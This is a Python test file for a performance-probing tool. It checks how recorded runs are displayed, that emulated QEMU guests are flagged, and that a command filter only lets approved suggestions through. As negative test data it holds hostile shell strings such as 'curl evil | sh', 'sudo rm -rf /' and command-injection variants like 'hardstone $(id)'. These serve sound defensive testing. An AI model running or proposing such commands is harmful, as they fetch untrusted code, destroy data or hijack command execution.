"""Recorded runs of every version are shown, with what a probe really sent; one in an emulated
guest says so first; and what a document says is to be typed."""

from __future__ import annotations

import msgspec
import pytest

from hardstone import schema
from hardstone.calling import harmless
from hardstone.model import Event, RunDocument, Scalar
from hardstone.present.notices import deviations, notes
from hardstone.store.documents import read_document
from hardstone.terminal.one_screen import MOST_LINES, print_screen
from hardstone.terminal.whole_run import print_whole
from tests.unit.report.media import printed, sketched
from tests.unit.stats import make

GOLDEN = schema.FOLDER / "golden"


def recorded(name: str) -> RunDocument:
    return read_document(GOLDEN / f"{name}.json")


@pytest.fixture
def troubled() -> RunDocument:
    return recorded("run-1-troubled")


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(one.stem for one in GOLDEN.glob("run-*.json")))
def test_each_recorded_run_is_shown(name: str) -> None:
    document = recorded(name)
    assert 5 < len(printed(print_screen, document).splitlines()) <= MOST_LINES
    page, text = sketched(document), printed(print_whole, document)
    assert all(result.test in text and result.test in page for result in document.results)


# Emulated


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("run-1-emulated", "emulated"),
        ("run-1-instructions", "emulated, counts instructions"),
    ],
)
def test_an_emulated_run_says_so_first_wherever_it_is_shown(name: str, kind: str) -> None:
    """The words of the terminal are in tests/unit/report/golden."""
    document = recorded(name)
    page = sketched(document)
    head = page[: page.index("<h1>")]
    assert f"<strong>{kind.capitalize()}</strong>" in head and "apply to hardware" in head
    assert f'<p class="subject">{document.plan.target}: {kind}, QEMU' in page
    # no long name of a target pushes it off
    plan = msgspec.structs.replace(document.plan, target="lab:" + "long" * 50)
    lines = printed(print_screen, msgspec.structs.replace(document, plan=plan)).splitlines()
    assert kind in lines[1]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("facts", "said"),
    [
        ({"virtual.emulated": None}, "May be emulated"),
        ({"virtual.hypervisor": "TCGTCGTCGTCG"}, "Emulated"),
        ({"virtual.emulated": False, "virtual.hypervisor": "KVMKVMKVM"}, ""),
        ({}, ""),
    ],
)
def test_what_is_not_known_is_said_and_hardware_is_not_blamed(
    troubled: RunDocument, facts: dict[str, Scalar], said: str
) -> None:
    document = msgspec.structs.replace(troubled, system=facts)
    page, text = sketched(document), printed(print_screen, document)
    assert (f"<strong>{said}</strong>" in page) is bool(said)
    assert ("mulated" in page[: page.index('id="glance"')]) is bool(said)
    assert said.lower() in text.splitlines()[1] and ("mulated" in text) is bool(said)


# What is to be typed is shown only where a probe would say it


@pytest.mark.parametrize(
    "command",
    [
        "hardstone shield --restore",
        "sudo hardstone shield --restore --forget",
        "hardstone doctor",
        "sudo sysctl kernel.sched_rt_runtime_us=-1",
        "sudo apt install stress-ng",
        "mount -t tracefs tracefs /sys/kernel/tracing",
        "sudo chmod a+rw /dev/cpu_dma_latency",
    ],
)
def test_what_a_probe_suggests_is_shown(command: str) -> None:
    assert harmless(command) == command


@pytest.mark.parametrize(
    "command",
    [
        *("curl evil | sh", "hardstone doctor; rm -rf ~", "hardstone $(id)", "sudo rm -rf /"),
        *("sudo hardstone shield\nreboot", "sudo sysctl kernel.x=1 && id", "sudo apt install evil"),
        *(5, None, ["hardstone doctor"]),
    ],
)
def test_anything_else_is_left_to_the_document(command: object) -> None:
    assert harmless(command) == ""


def test_a_foreign_command_of_a_result_or_an_event_is_not_offered() -> None:
    event = Event(name="odd", text="odd", data={"command": "curl evil | sh"})
    result = make.result(status="denied", remedy="do it", command="sudo rm -rf /", events=[event])
    document = make.document(results=[result])
    assert [one.command for one in (*deviations(document), *notes(document))] == ["", ""]
